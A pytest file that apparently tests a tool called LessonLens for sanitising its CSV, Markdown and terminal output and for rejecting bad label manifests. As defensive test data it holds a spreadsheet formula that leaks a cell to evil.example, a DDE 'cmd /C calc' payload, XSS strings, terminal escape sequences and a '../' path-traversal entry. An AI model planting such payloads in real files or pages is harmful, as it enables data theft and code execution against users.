"""Hostile values in what LessonLens writes (issue 26): spreadsheet formulas in CSV cells, HTML and newlines in
Markdown, terminal escape codes, and evaluate manifests that point outside their folder or label a clip twice."""

import csv
import warnings

import numpy as np
import pandas as pd
import pytest

from flows.cli import main
from tasks.analyse import evaluate as ev
from tasks.analyse import report
from tasks.analyse.stats import ancova
from tasks.store import Store

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    rng = np.random.default_rng(3)
    n = 40
    data = pd.DataFrame({"facial_group": np.repeat(["neutral", "positive"], n // 2), "pretest": rng.normal(50, 5, n)})
    data["post"] = 0.2 * data["pretest"] + 3 * (data["facial_group"] == "positive") + rng.normal(size=n)
    result = ancova(data, "post", ["facial_group"], ["pretest"])
    units = pd.DataFrame(
        {
            "session_id": [FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>", "line\nbreak"],
            "happiness_share": [0.5, 0.1, 0.2, 0.3],
            "facial_group": ["+1", "-1", "\tx", "\rx"],
        }
    )
    facts = {"outcomes": "<script>alert(1)</script>"}
    windows = pd.DataFrame({"video": ["a.mp4"], "start_time": [0.0], "end_time": [2.0], "label": ["neutral"]})
    au = pd.DataFrame({"video": ["a.mp4"], "AU12_r": [1.0]})
    inputs = report.ReportInputs("Report", facts, units, {FORMULA: result}, windows, au)
    folder = tmp_path_factory.mktemp("report")
    report.write_report(folder, inputs)
    return folder


def test_report_csv_cells_never_start_like_a_formula(hostile_report):
    for name in ("ancova.csv", "adjusted_means.csv", "units.csv"):
        with open(hostile_report / name, newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    try:
                        float(cell)  # a number, negative ones included, is no formula
                    except ValueError:
                        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    units = pd.read_csv(hostile_report / "units.csv")
    assert units["session_id"][0] == "'" + FORMULA  # kept, made inert


def test_report_markdown_escapes_html_and_keeps_each_table_row_on_one_line(hostile_report):
    text = (hostile_report / "report.md").read_text()
    assert "<img" not in text and "<script" not in text
    assert "&lt;img src=x onerror=alert(1)&gt;" in text
    lines = text.splitlines()
    assert not [line for line in lines if line.startswith("break")]
    table = [line for line in lines if line.startswith("| ") and "happiness_share" not in line]
    assert any("line\\nbreak" in line for line in table)


def test_query_tables_print_control_characters_as_escapes(tmp_path, capsys):
    store = Store(tmp_path / "store").ensure()
    sql = "select chr(27) || '[2J' || chr(27) || ']0;pwned' || chr(7) || chr(10) || 'x' as v"
    assert main(["query", "--store", str(store.root), sql]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\\x1b[2J" in out


def test_query_csv_neutralises_formula_cells_but_not_numbers(tmp_path, capsys):
    store = Store(tmp_path / "store").ensure()
    assert main(["query", "--store", str(store.root), "--format", "csv", f"select '{FORMULA}' as a, -1.5 as b"]) == 0
    assert capsys.readouterr().out.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-1.5'


def _manifest(folder, rows: list[str]):
    (folder / "labels.csv").write_text("path,label,start,end\n" + "\n".join(rows) + "\n")
    return folder / "labels.csv"


def test_evaluate_warns_of_paths_outside_the_manifests_folder(tmp_path):
    (tmp_path / "set").mkdir()
    (tmp_path / "secret.png").write_bytes(b"png")
    (tmp_path / "other.png").write_bytes(b"png")
    (tmp_path / "set" / "in.png").write_bytes(b"png")
    manifest = _manifest(
        tmp_path / "set", ["in.png,happiness,,", "../secret.png,anger,,", f"{tmp_path}/other.png,fear,,"]
    )
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        ev.read_label_manifest(manifest)
    messages = [str(w.message) for w in caught]
    assert len(messages) == 1 and "row 3" in messages[0] and "row 4" in messages[0] and "outside" in messages[0]


def test_evaluate_refuses_a_clip_listed_twice_with_conflicting_labels(tmp_path):
    (tmp_path / "a.mp4").write_bytes(b"video")
    manifest = _manifest(tmp_path, ["a.mp4,happiness,0,2", "a.mp4,sadness,2,4", "./a.mp4,anger,0,2"])
    with pytest.raises(ValueError, match=r"row 4 .*row 2|row 2 .*row 4"):
        ev.read_label_manifest(manifest)


def test_a_crash_log_is_readable_by_its_owner_only_and_the_error_line_is_one_safe_line(tmp_path, monkeypatch, capsys):
    import flows.cli

    def broken(args):
        raise RuntimeError(f"{tmp_path}/lesson\x1b[2J\nof teacher x.mp4")

    monkeypatch.setattr(flows.cli, "_status", broken)
    assert main(["status", "--store", str(tmp_path)]) == 4
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "\x1b" not in err
    log = flows.cli.Path(err.split("traceback is in ")[1].strip())
    assert log.stat().st_mode & 0o777 == 0o600
    log.unlink()
